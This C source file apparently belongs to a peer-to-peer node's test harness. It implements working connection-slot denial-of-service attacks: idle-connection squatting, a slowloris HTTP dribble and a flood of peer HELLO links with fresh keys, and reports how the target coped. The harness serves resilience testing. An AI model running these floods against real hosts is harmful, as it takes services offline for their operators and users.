/*
 * attack_slots.c — attacks on a node's connection slots, from issue 24:
 *
 *   attack squat HOST PORT SRCNET NADDR PER SECONDS
 *       from SRCNET.10 … SRCNET.(9+NADDR), keep PER TCP connections each
 *       to the peer port, sending nothing, and open a new one whenever one
 *       is closed, for SECONDS
 *   attack slowloris HOST PORT SRCNET NADDR PER SECONDS
 *       the same against the web server, each connection sending an HTTP
 *       request's headers one byte a second
 *   attack hellos HOST PORT SRCNET NETKEY N HOLD ENDPOINT…
 *       N links, each from SRCNET.(10 + i mod 200) with a fresh key, whose
 *       HELLO announces the ENDPOINTs (at most 8; a %d in one is replaced
 *       by the link's number, so that each link announces its own), all
 *       held open for HOLD seconds
 *
 * squat and slowloris print how many connections they opened, how many the
 * victim closed, refused at once or kept for the whole run, and how long
 * the closed ones lived.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "timing.h"

#define SLOTS_MAX 4096

struct slot {
	int fd;
	double opened, last_byte;
	unsigned sent;
	char src[32];
};

struct squat {
	const char *host;
	int port;
	bool http;
	unsigned long opened, refused, closed;
	double lived; /* seconds the closed ones were open, summed */
};

static void slot_open(struct squat *q, struct slot *s, double now)
{
	s->fd = att_dial(q->host, q->port, s->src);
	s->opened = s->last_byte = now;
	s->sent = 0;
	if (s->fd < 0) {
		q->refused++;
		return;
	}
	q->opened++;
}

/* One byte of a never-ending request's headers, a second apart. */
static void slot_dribble(struct slot *s, double now)
{
	static const char req[] = "GET /api/v1/taxonomy HTTP/1.1\r\nHost: victim\r\nX-Slow: ";
	if (now - s->last_byte < 1.0)
		return;
	char b = s->sent < sizeof req - 1 ? req[s->sent] : 'a';
	if (send(s->fd, &b, 1, MSG_NOSIGNAL) == 1)
		s->sent++;
	s->last_byte = now;
}

static int run_squat(struct squat *q, const char *srcnet, int naddr, int per, double seconds)
{
	size_t n = (size_t)naddr * (size_t)per;
	if (n == 0 || n > SLOTS_MAX)
		return 2;
	struct rlimit rl = { (rlim_t)n + 64, (rlim_t)n + 64 };
	setrlimit(RLIMIT_NOFILE, &rl);
	struct slot *slots = gl_xcalloc(n, sizeof *slots);
	double t0 = now_s();
	for (size_t i = 0; i < n; i++) {
		snprintf(slots[i].src, sizeof slots[i].src, "%s.%zu", srcnet, 10 + i / (size_t)per);
		slot_open(q, &slots[i], t0);
	}
	struct pollfd *pf = gl_xcalloc(n, sizeof *pf);
	while (now_s() - t0 < seconds) {
		for (size_t i = 0; i < n; i++)
			pf[i] = (struct pollfd){ .fd = slots[i].fd, .events = POLLIN };
		poll(pf, n, 200);
		double now = now_s();
		for (size_t i = 0; i < n; i++) {
			struct slot *s = &slots[i];
			bool gone = s->fd < 0;
			if (!gone && (pf[i].revents & (POLLIN | POLLHUP | POLLERR))) {
				char buf[4096];
				ssize_t r = recv(s->fd, buf, sizeof buf, MSG_DONTWAIT);
				gone = r == 0 || (r < 0 && errno != EAGAIN);
			}
			if (gone && s->fd >= 0) {
				q->closed++;
				q->lived += now - s->opened;
				close(s->fd);
				s->fd = -1;
			}
			if (s->fd < 0 && now - s->opened >= 0.2) /* reconnect, not in a tight loop */
				slot_open(q, s, now);
			else if (s->fd >= 0 && q->http)
				slot_dribble(s, now);
		}
	}
	unsigned long kept = 0;
	for (size_t i = 0; i < n; i++)
		if (slots[i].fd >= 0) {
			kept += now_s() - slots[i].opened >= seconds - 0.5;
			close(slots[i].fd);
		}
	printf("{\"opened\": %lu, \"refused\": %lu, \"closed_by_peer\": %lu, \"kept_whole_run\": %lu, "
	       "\"mean_life\": %.2f}\n", q->opened, q->refused, q->closed, kept,
	       q->closed ? q->lived / (double)q->closed : 0.0);
	free(pf);
	free(slots);
	return 0;
}

static int run_hellos(const char *host, int port, const char *srcnet, const char *netkey, int n,
                      double hold, char *const *endpoints, unsigned nendpoints)
{
	if (n < 1 || n > SLOTS_MAX || nendpoints > 8)
		return 2;
	struct att_link *links = gl_xcalloc((size_t)n, sizeof *links);
	int ok = 0, failed = 0;
	for (int i = 0; i < n; i++) {
		char src[32], text[8][300];
		const char *eps[8];
		snprintf(src, sizeof src, "%s.%d", srcnet, 10 + i % 200);
		for (unsigned e = 0; e < nendpoints; e++) {
			if (strstr(endpoints[e], "%d"))
				snprintf(text[e], sizeof text[e], endpoints[e], i); /* the test's own format */
			else
				snprintf(text[e], sizeof text[e], "%s", endpoints[e]);
			eps[e] = text[e];
		}
		if (att_peer_open(&links[i], host, port, src, netkey, eps, nendpoints)) {
			links[i].fd = -1;
			failed++;
			continue;
		}
		ok++;
	}
	/* hold them, reading (and dropping) what the victim sends */
	double end = now_s() + hold;
	int closed = 0;
	while (now_s() < end)
		for (int i = 0; i < n; i++)
			if (links[i].fd >= 0 && att_read_msgs(&links[i], 10, NULL, NULL) < 0) {
				close(links[i].fd);
				links[i].fd = -1;
				closed++;
			}
	for (int i = 0; i < n; i++) {
		if (links[i].fd >= 0)
			close(links[i].fd);
		gl_buf_free(&links[i].in);
	}
	free(links);
	printf("{\"links\": %d, \"failed\": %d, \"closed_by_peer\": %d}\n", ok, failed, closed);
	return 0;
}

int att_slots_main(int argc, char **argv)
{
	if ((!strcmp(argv[1], "squat") || !strcmp(argv[1], "slowloris")) && argc == 8) {
		struct squat q = { .host = argv[2], .port = atoi(argv[3]),
		                   .http = !strcmp(argv[1], "slowloris") };
		return run_squat(&q, argv[4], atoi(argv[5]), atoi(argv[6]), atof(argv[7]));
	}
	if (!strcmp(argv[1], "hellos") && argc >= 9 && argc <= 16)
		return run_hellos(argv[2], atoi(argv[3]), argv[4], argv[5], atoi(argv[6]),
		                  atof(argv[7]), argv + 8, (unsigned)(argc - 8));
	return 2;
}
